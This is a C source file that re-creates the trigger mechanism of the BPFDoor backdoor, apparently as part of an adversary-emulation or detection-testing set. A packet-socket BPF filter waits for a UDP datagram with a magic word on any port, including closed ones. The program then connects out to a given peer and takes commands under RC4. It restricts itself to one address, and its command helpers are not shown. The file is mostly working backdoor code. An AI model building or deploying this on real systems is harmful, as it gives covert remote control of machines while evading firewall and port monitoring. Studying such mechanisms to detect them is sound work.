/*
 * AN0401: the shape of BPFDoor: waits on a packet socket, behind a filter, for a datagram with a magic word to any port, closed
 * ones too; then connects to the given peer, whatever the datagram says, and takes commands under RC4.
 * usage: knock ADDRESS PORT INTERFACE
 */
#include <arpa/inet.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include "converse.h"
#include "link.h"

/* The first two bytes of such a datagram. */
#define MAGIC 0x7255

static void wait_for_knock(const char *interface)
{
	/* IPv4, UDP, not a fragment, and the word behind the UDP header */
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_B | BPF_ABS, 9),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, IPPROTO_UDP, 0, 6),
		BPF_STMT(BPF_LD | BPF_H | BPF_ABS, 6),
		BPF_JUMP(BPF_JMP | BPF_JSET | BPF_K, 0x1fff, 4, 0),
		BPF_STMT(BPF_LDX | BPF_B | BPF_MSH, 0),
		BPF_STMT(BPF_LD | BPF_H | BPF_IND, 8),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, MAGIC, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, 65535),
		BPF_STMT(BPF_RET | BPF_K, 0),
	};
	struct sock_fprog program = { .len = sizeof(code) / sizeof(*code), .filter = code };
	struct sockaddr_ll at = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP) };
	struct timeval patience = { .tv_sec = 15 };
	uint8_t packet[2048];
	int fd = socket(AF_PACKET, SOCK_DGRAM, 0);

	at.sll_ifindex = (int)if_nametoindex(interface);
	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof(program)) < 0 ||
	    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience)) < 0 ||
	    bind(fd, (struct sockaddr *)&at, sizeof(at)) < 0)
		link_fail("packet socket");
	fprintf(stderr, "waiting\n");
	if (recv(fd, packet, sizeof(packet), 0) < 0)
		link_fail("no knock");
	close(fd);
}

int main(int argc, char **argv)
{
	struct frames f;

	if (argc != 4)
		return 64;
	link_refuse_others(argv[1]);
	wait_for_knock(argv[3]);
	frames_begin(&f, link_open(argv[1], argv[2], SOCK_STREAM), 0);
	return converse(&f);
}
